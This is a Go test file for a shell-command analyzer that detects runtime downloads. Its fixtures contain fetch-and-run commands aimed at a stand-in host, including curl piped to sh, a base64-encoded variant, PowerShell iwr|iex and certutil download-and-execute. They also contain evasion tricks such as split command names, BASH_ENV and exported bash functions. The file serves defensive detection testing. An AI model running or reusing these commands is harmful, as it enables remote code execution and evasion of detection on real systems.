package shell

import (
	"fmt"
	"testing"
)

// TestGiven analyses commands that say little by themselves: what they do stands in the environment, and in files.
func TestGiven(t *testing.T) {
	const fetch = "curl -s http://203.0.113.7/x | sh"
	const again = `#!/bin/sh
if [ "${1#-}" != "$1" ]; then set -- redis-server "$@"; fi
if [ "$(id -u)" = 0 ]; then exec gosu redis "$0" "$@"; fi
exec "$@"`
	env := func(pairs ...string) map[string]string {
		m := map[string]string{}
		for i := 0; i < len(pairs); i += 2 {
			m[pairs[i]] = pairs[i+1]
		}
		return m
	}
	for _, test := range []struct {
		name  string
		args  []string
		env   map[string]string
		files map[string]string
		want  Kind // none if empty
	}{
		{"eval of a variable", []string{"sh", "-c", `eval "$SCRIPT"`}, env("SCRIPT", fetch), nil, RuntimeDownload},
		{"a variable as the script", []string{"sh", "-c", `sh -c "$SCRIPT"`}, env("SCRIPT", fetch), nil, RuntimeDownload},
		{"a variable through a pipe", []string{"sh", "-c", `echo "$S" | base64 -d | sh`}, env("S", "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo"), nil, RuntimeDownload},
		{"parts of a name", []string{"sh", "-c", `$A$B -s http://203.0.113.7/x | $C`}, env("A", "cu", "B", "rl", "C", "sh"), nil, RuntimeDownload},
		{"a variable that is only printed", []string{"sh", "-c", `echo "$SCRIPT"`}, env("SCRIPT", fetch), nil, ""},
		{"a variable that is set anew", []string{"sh", "-c", `SCRIPT=true; eval "$SCRIPT"`}, env("SCRIPT", fetch), nil, ""},
		{"a script by its shell", []string{"sh", "/s/run.sh"}, nil, env("/s/run.sh", fetch), RuntimeDownload},
		{"a script by itself", []string{"/s/run.sh"}, nil, env("/s/run.sh", "#!/bin/bash\n"+fetch), RuntimeDownload},
		{"a script by its name alone", []string{"run"}, env("PATH", "/s"), env("/s/run", fetch), RuntimeDownload},
		{"a script by a relative name", []string{"./run.sh"}, nil, env("run.sh", fetch), RuntimeDownload},
		{"a sourced file", []string{"sh", "-c", ". /s/lib.sh; go"}, nil, env("/s/lib.sh", "go() { "+fetch+"; }"), RuntimeDownload},
		{"a file through a pipe", []string{"sh", "-c", "cat /s/lib.sh | sh"}, nil, env("/s/lib.sh", fetch), RuntimeDownload},
		{"a script that runs its arguments", []string{"/s/entry.sh", "sh", "-c", fetch}, nil, env("/s/entry.sh", "#!/bin/sh\nset -e\nexec \"$@\"\n"), RuntimeDownload},
		{"a script that starts itself as another user", []string{"/s/entry.sh", "redis"}, nil, env("/s/entry.sh", again), ""},
		{"a script that starts itself and what it is told", []string{"/s/entry.sh", "/s/entry.sh", "/s/entry.sh", "/s/entry.sh", "/s/entry.sh", "sh", "-c", fetch}, nil, env("/s/entry.sh", "exec \"$@\""), RuntimeDownload},
		{"a script that prepares itself", []string{"/s/entry.sh"}, nil, env("/s/entry.sh", "eval \"$A\"\nexport A='"+fetch+"'\nexec \"$0\""), RuntimeDownload},
		{"a script of Python", []string{"python3", "/s/a.py"}, nil, env("/s/a.py", "import os\nos.system('"+fetch+"')"), RuntimeDownload},
		{"bytes that are no UTF-8", []string{"/s/run.sh"}, nil, env("/s/run.sh", "#!/bin/sh\n# caf\xe9\n"+fetch), RuntimeDownload},
		{"a command line of Windows", []string{`C:\Windows\System32\cmd.exe /S /C powershell -c "iwr http://203.0.113.7/x.ps1 | iex"`}, nil, nil, RuntimeDownload},
		{"a pipe in quotes", []string{"cmd", "/S", "/C", `powershell -c "iwr http://203.0.113.7/x.ps1 | iex"`}, nil, nil, RuntimeDownload},
		{"quotes around all of it", []string{"cmd", "/c", `"certutil -urlcache -f http://203.0.113.7/x.exe x.exe && x.exe"`}, nil, nil, RuntimeDownload},
		{"a command line of Windows and more", []string{"powershell -Command", "iwr http://203.0.113.7/x.ps1 | iex"}, nil, nil, RuntimeDownload},
		{"a program with a space in its name", []string{"/opt/my cmd", "-c", fetch}, nil, nil, ""},
		{"a file that is only copied", []string{"sh", "-c", "cp /s/lib.sh /tmp/x; cat /tmp/x"}, nil, env("/s/lib.sh", fetch), ""},
		{"a file of another name", []string{"/s/run.sh"}, nil, env("/s/lib.sh", fetch), ""},
		{"bash reads BASH_ENV", []string{"bash", "-c", "true"}, env("BASH_ENV", "/s/env"), env("/s/env", fetch), RuntimeDownload},
		{"bash expands BASH_ENV", []string{"bash", "-c", "true"}, env("BASH_ENV", "$("+fetch+")"), nil, RuntimeDownload},
		{"a function in the environment", []string{"bash", "-c", "ls"}, env("BASH_FUNC_ls%%", "() { "+fetch+"; }"), nil, RuntimeDownload},
		{"a function in the environment that nothing calls", []string{"bash", "-c", "pwd"}, env("BASH_FUNC_ls%%", "() { "+fetch+"; }"), nil, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			got := Options{Env: test.env, Files: test.files}.Analyze(test.args)
			if got.Unreadable != "" {
				t.Errorf("unreadable: %s", got.Unreadable)
			}
			if test.want == "" && len(got.Actions) > 0 || test.want != "" && (len(got.Actions) != 1 || got.Actions[0].Kind != test.want) {
				t.Errorf("got %+v, want %q", got.Actions, test.want)
			}
		})
	}
}

func TestGivenArguments(t *testing.T) {
	got := Options{Env: map[string]string{"URL": "http://203.0.113.7/x"}}.AnalyzeScript("#!/bin/sh\n\ncurl \"$URL\" | $1\n", "bash")
	if len(got.Actions) != 1 || got.Actions[0].Line != 3 || got.Actions[0].Source != "http://203.0.113.7/x" {
		t.Errorf("got %+v, want one in line 3", got)
	}
}

func TestTooManyFiles(t *testing.T) {
	files := map[string]string{}
	for i := range maxFiles + 1 {
		files[fmt.Sprint("/", i)] = "true"
	}
	if got := (Options{Files: files}).Analyze([]string{"true"}); got.Unreadable == "" {
		t.Error("more files than the limit, and nothing is said")
	}
}
